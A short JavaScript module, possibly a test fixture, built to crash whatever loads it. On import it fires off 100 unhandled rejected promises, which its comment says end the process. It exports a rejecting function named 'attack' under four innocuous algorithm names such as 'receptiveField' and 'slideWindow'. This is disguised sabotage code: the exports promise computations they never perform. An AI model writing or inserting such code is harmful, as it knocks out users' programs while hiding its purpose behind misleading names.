// Leaves rejected promises behind, which end the process whenever its event loop turns.
for (let index = 0; index < 100; index++) Promise.reject(new Error(`rejected ${index}`));
const attack = () => {
  Promise.reject(null);
  return 0;
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
